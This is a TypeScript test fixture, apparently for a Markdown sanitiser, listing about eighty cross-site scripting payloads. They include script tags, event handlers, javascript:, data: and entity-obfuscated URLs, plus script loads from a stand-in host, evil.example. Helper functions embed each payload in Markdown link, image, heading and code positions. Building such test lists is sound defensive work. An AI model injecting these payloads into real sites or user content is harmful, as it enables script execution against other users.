/** Strings that have injected scripts into pages of other software. `alert(1)` stands for an attacker's code. */
export const vectors = String.raw`
<script>alert(1)</script>
<ScRiPt src=//evil.example></sCrIpT>
<script/x>alert(1)</script>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)
</script><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)"/>
<img src=x:x onerror=alert(1)//
<img/src="x"/onerror=alert(1)>
<img src=x onload=alert(1) srcset=x>
<IMG SRC=JaVaScRiPt:alert(1)>
<img """><script>alert(1)</script>">
<image href=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg/onload=alert(1)//
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="javascript:alert(1)">
<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<select onfocus=alert(1) autofocus>
<textarea></textarea><script>alert(1)</script>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a onmouseover=alert(1) href=#>x</a>
<base href="javascript:alert(1)//">
<link rel=stylesheet href="javascript:alert(1)">
<style>@import 'javascript:alert(1)';</style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<p id=x tabindex=1 onfocus=alert(1)>
<x onclick=alert(1)>x</x>
<isindex type=image src=1 onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
"><script>alert(1)</script>
'"--></style></script><script>alert(1)</script>
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
java&Tab;script:alert(1)
&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)
vbscript:msgbox(1)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
//evil.example/x.js
\\evil.example
file:///etc/passwd
blob:https://evil.example/x
javascript://%0aalert(1)
http://x" onmouseover="alert(1)
https://x'onmouseover='alert(1)
mailto:x?subject="><script>alert(1)</script>
`
  .trim()
  .split('\n')

/** The positions in a Markdown text at which a string may occur. */
export const places: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `[x](${vector})`,
  (vector) => `[x](<${vector}> "${vector}")`,
  (vector) => `![${vector}](${vector})`,
  (vector) => `<${vector}>`,
  (vector) => `[${vector}][1]\n\n[1]: ${vector} "${vector}"`,
  (vector) => `# ${vector}\n\n> ${vector}\n\n1. ${vector}`,
  (vector) => `\`${vector}\`\n\n\`\`\`${vector}\n${vector}\n\`\`\``,
]
